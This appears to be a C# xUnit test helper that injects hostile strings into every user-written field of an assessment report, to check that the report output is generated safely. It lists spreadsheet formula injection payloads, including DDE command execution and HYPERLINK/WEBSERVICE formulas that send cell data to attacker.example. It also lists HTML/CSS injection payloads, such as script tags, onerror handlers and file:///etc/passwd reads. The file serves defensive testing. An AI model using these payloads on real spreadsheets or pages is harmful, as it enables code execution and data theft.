using Xunit;

namespace Om.Assessments.Tests;

/// <summary>Texts that want to be more than text.</summary>
internal static class Hostile
{
    public static readonly string[] Formulas =
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
        "=WEBSERVICE(\"http://attacker.example/\")",
        "+SUM(1;2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "|calc",
        "＝1+1",
        "\";=1+1;\"",
    ];

    public static readonly string[] Markup =
    [
        "<script>document.body.innerHTML='OWNED'</script>",
        "<img src=x onerror=\"document.body.innerHTML='OWNED'\">",
        "<iframe src=\"file:///etc/passwd\"></iframe>",
        "<object data=\"file:///etc/passwd\"></object>",
        "<svg onload=\"document.body.innerHTML='OWNED'\"/>",
        "<link rel=\"stylesheet\" href=\"http://attacker.example/a.css\">",
        "<style>body{display:none}</style>",
        "</style></title></head><body><h1>OWNED</h1>",
        "<!--", "-->", "]]>", "<![CDATA[",
        "&amp;&lt;&#60;script&#62;",
        "\"; } body { display: none } x { a: \"",
        "\\\"; } @page { size: 1mm } \\",
        "javascript:alert(1)",
        "{0} {1} {99} %s",
    ];

    /// <summary>A run with <paramref name="text"/> in every place where people write.</summary>
    public static ReportData Everywhere(string text)
    {
        var data = SampleRun.Small();
        data.Assessment.Title = text;
        data.Assessment.Profile.Region = text;
        data.Content.Label = text;
        data.Content.Publisher = SampleRun.Words(text, text);
        data.Content.Title = SampleRun.Words(text, text);
        data.Content.Topics[0].Title = SampleRun.Words(text, text);
        data.Content.Topics[0].Checkpoints[0].Title = SampleRun.Words(text, text);
        foreach (var answer in data.Answers)
        {
            answer.Note = text;
            answer.Reason = answer.NotApplicable ? text : "";
        }

        foreach (var declaration in data.Declarations)
        {
            declaration.FirmName = declaration.FirmPlace = declaration.Signatory = declaration.CheckTitle = declaration.Number = text;
        }

        return data with { Measures = [SampleRun.Measure(0, text, text, text, text), SampleRun.Measure(4, text, text, text, text)] };
    }

    public static TheoryData<string> Of(IEnumerable<string> texts) => [.. texts];
}
